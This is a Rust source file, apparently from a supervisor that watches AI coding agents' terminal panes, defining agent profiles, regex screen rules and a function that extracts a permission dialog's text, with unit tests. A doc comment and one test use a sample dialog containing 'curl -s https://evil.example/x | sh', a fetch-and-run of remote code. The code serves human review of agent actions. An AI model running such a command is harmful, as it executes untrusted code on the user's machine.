//! An agent's profile, as `pane.spawn` receives it in `agent`: its screen rules (a regular
//! expression over a region of the screen that means a state, with a priority), how long its
//! output must be quiet before it counts as idle, and the status file it keeps, if any.
//! The profiles themselves come from wt-run's data file and `wt.toml [agents.NAME]`
//! (see `crate::agents`); the supervisor only applies what it is given.

use std::collections::BTreeMap;
use std::time::Duration;

use serde::{Deserialize, Serialize};

use super::answer::{Answer, AnswerSpec};
use super::handle::Failure;

/// The quiet time of an agent that names none.
pub const DEFAULT_QUIET_MS: u64 = 2000;

/// One screen rule, as written in the data file and on the wire.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RuleSpec {
    /// A regular expression over the region's text.
    pub pattern: String,
    /// The state it means [default: waiting].
    #[serde(default = "waiting")]
    pub state: String,
    /// The region: the last N rows of what the screen shows, up to its last row that is not
    /// blank (a program that has not filled the screen draws its dialog there) [default: 0,
    /// the whole screen].
    #[serde(default)]
    pub lines: u16,
    /// Higher wins when several match [default: 0].
    #[serde(default)]
    pub priority: i32,
}

fn waiting() -> String {
    "waiting".into()
}

/// An agent's profile on the wire.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ProfileSpec {
    pub name: String,
    #[serde(default)]
    pub quiet_ms: Option<u64>,
    #[serde(default)]
    pub rules: Vec<RuleSpec>,
    /// The status file it keeps: `claude` (`~/.claude/sessions/<pid>.json`).
    #[serde(default)]
    pub status_file: Option<String>,
    /// What `pane answer` presses for `yes`, `no` (see `answer`).
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub answers: BTreeMap<String, AnswerSpec>,
    /// A program that is no agent: output, or a quiet time without any, means `running`,
    /// never `working` or `idle` (it has no turns to finish).
    #[serde(default)]
    pub program: bool,
}

#[derive(Debug)]
pub struct Rule {
    pub state: &'static str,
    pub regex: regex::Regex,
    pub lines: u16,
    pub priority: i32,
}

/// A profile, checked and compiled.
#[derive(Debug)]
pub struct Profile {
    pub name: String,
    pub quiet: Duration,
    /// Highest priority first.
    pub rules: Vec<Rule>,
    pub claude_status: bool,
    pub answers: BTreeMap<String, Answer>,
    pub program: bool,
}

impl Profile {
    pub fn compile(spec: &ProfileSpec) -> Result<Profile, Failure> {
        let mut rules = Vec::new();
        for r in &spec.rules {
            let state = super::agent::state_named(&r.state).filter(|s| *s != "exited").ok_or((
                "bad-params",
                format!(
                    "agent '{}': a rule's state must be starting, working, waiting, idle or running, not '{}'",
                    spec.name, r.state
                ),
            ))?;
            let regex = regex::Regex::new(&r.pattern)
                .map_err(|e| ("bad-params", format!("agent '{}': bad pattern '{}': {e}", spec.name, r.pattern)))?;
            rules.push(Rule { state, regex, lines: r.lines, priority: r.priority });
        }
        rules.sort_by_key(|r| std::cmp::Reverse(r.priority));
        let claude_status = match spec.status_file.as_deref() {
            None => false,
            Some("claude") => true,
            Some(other) => {
                return Err(("bad-params", format!("agent '{}': unknown status_file '{other}' (claude)", spec.name)))
            }
        };
        let quiet = Duration::from_millis(spec.quiet_ms.unwrap_or(DEFAULT_QUIET_MS).max(1));
        let answers = super::answer::compile(&spec.name, &spec.answers)?;
        Ok(Profile { name: spec.name.clone(), quiet, rules, claude_status, answers, program: spec.program })
    }

    /// The state the screen shows by the highest-priority matching rule, with its text: for
    /// `waiting`, the dialog's own lines (see [`dialog_text`]), else the matched text.
    pub fn match_screen(&self, rows: &[String]) -> Option<(&'static str, String)> {
        let end = rows.iter().rposition(|r| !r.trim().is_empty()).map_or(0, |i| i + 1);
        self.rules.iter().find_map(|rule| {
            let from = match rule.lines {
                0 => 0,
                n => end.saturating_sub(n as usize),
            };
            let region = rows[from..end].iter().map(|r| r.trim_end()).collect::<Vec<_>>().join("\n");
            let m = rule.regex.find(&region)?;
            let text = match rule.state {
                // The row the match ends on, counted in the region's lines.
                "waiting" => dialog_text(&rows[from..end], region[..m.end()].matches('\n').count()),
                _ => m.as_str().trim().to_string(),
            };
            Some((rule.state, text))
        })
    }
}

/// How many rows above a dialog's question are taken as what it asks about.
const DIALOG_ROWS: usize = 8;

/// What a dialog asks, as the person should read it before answering: the question's row and
/// the rows above it up to the dialog's top (a blank row, or a border of box-drawing
/// characters), at most [`DIALOG_ROWS`], borders stripped, joined with ` · `: `Bash command ·
/// curl -s https://evil.example/x | sh · Do you want to proceed?`. It comes from the screen,
/// not from what the program says about itself, so a notification cannot stand in for it.
pub fn dialog_text(rows: &[String], question_row: usize) -> String {
    let Some(upto) = rows.get(..=question_row.min(rows.len().saturating_sub(1))) else { return String::new() };
    let mut lines = Vec::new();
    for row in upto.iter().rev() {
        let line = row.trim().trim_matches(|c: char| is_border(c) || c.is_whitespace());
        match line.is_empty() {
            // A blank row, or the box's top border: the dialog starts below it.
            true if row.trim().is_empty() || row.contains(['─', '━', '═']) => break,
            // A blank row inside the box (`│      │`).
            true => continue,
            false => lines.push(line.to_string()),
        }
        if lines.len() > DIALOG_ROWS {
            break;
        }
    }
    lines.reverse();
    lines.join(" · ")
}

/// The characters dialogs draw their boxes with (U+2500 to U+257F), and `|`.
fn is_border(c: char) -> bool {
    ('\u{2500}'..='\u{257f}').contains(&c) || c == '|'
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(pattern: &str, state: &str, lines: u16, priority: i32) -> RuleSpec {
        RuleSpec { pattern: pattern.into(), state: state.into(), lines, priority }
    }

    #[test]
    fn the_highest_priority_match_in_its_region_wins() {
        let spec = ProfileSpec {
            name: "x".into(),
            rules: vec![rule("esc to interrupt", "working", 3, 1), rule("Allow\\?", "waiting", 2, 5)],
            ..Default::default()
        };
        let p = Profile::compile(&spec).unwrap();
        let rows = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        assert_eq!(
            p.match_screen(&rows(&["Allow?", "", "", "esc to interrupt"])).unwrap().0,
            "working",
            "Allow? is above the region"
        );
        assert_eq!(p.match_screen(&rows(&["", "", "Allow?  ", "esc to interrupt"])).unwrap().0, "waiting");
        assert_eq!(p.match_screen(&rows(&["nothing"])), None);
        let blank_below = rows(&["Allow?", "", "", "", "", ""]);
        assert_eq!(p.match_screen(&blank_below).unwrap().0, "waiting", "the region ends at the last row drawn");
    }

    #[test]
    fn a_dialogs_text_is_its_own_rows_from_its_top_to_its_question() {
        let rows = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        let screen = rows(&[
            "earlier output",
            "",
            "╭──────────────────────────────╮",
            "│ Bash command                 │",
            "│                              │",
            "│   curl -s https://x.example | sh │",
            "│ Do you want to proceed?      │",
            "│ ❯ 1. Yes                     │",
        ]);
        assert_eq!(dialog_text(&screen, 6), "Bash command · curl -s https://x.example | sh · Do you want to proceed?");
        let spec = ProfileSpec {
            name: "x".into(),
            rules: vec![rule("Do you want to proceed", "waiting", 0, 1)],
            ..Default::default()
        };
        let (state, text) = Profile::compile(&spec).unwrap().match_screen(&screen).unwrap();
        assert_eq!(
            (state, text.as_str()),
            ("waiting", "Bash command · curl -s https://x.example | sh · Do you want to proceed?")
        );
    }

    #[test]
    fn bad_rules_are_refused_with_the_agent_named() {
        let bad = ProfileSpec { name: "x".into(), rules: vec![rule("(", "waiting", 0, 0)], ..Default::default() };
        assert!(Profile::compile(&bad).unwrap_err().1.contains("agent 'x'"));
        let bad = ProfileSpec { name: "x".into(), rules: vec![rule("a", "exited", 0, 0)], ..Default::default() };
        assert_eq!(Profile::compile(&bad).unwrap_err().0, "bad-params");
    }
}
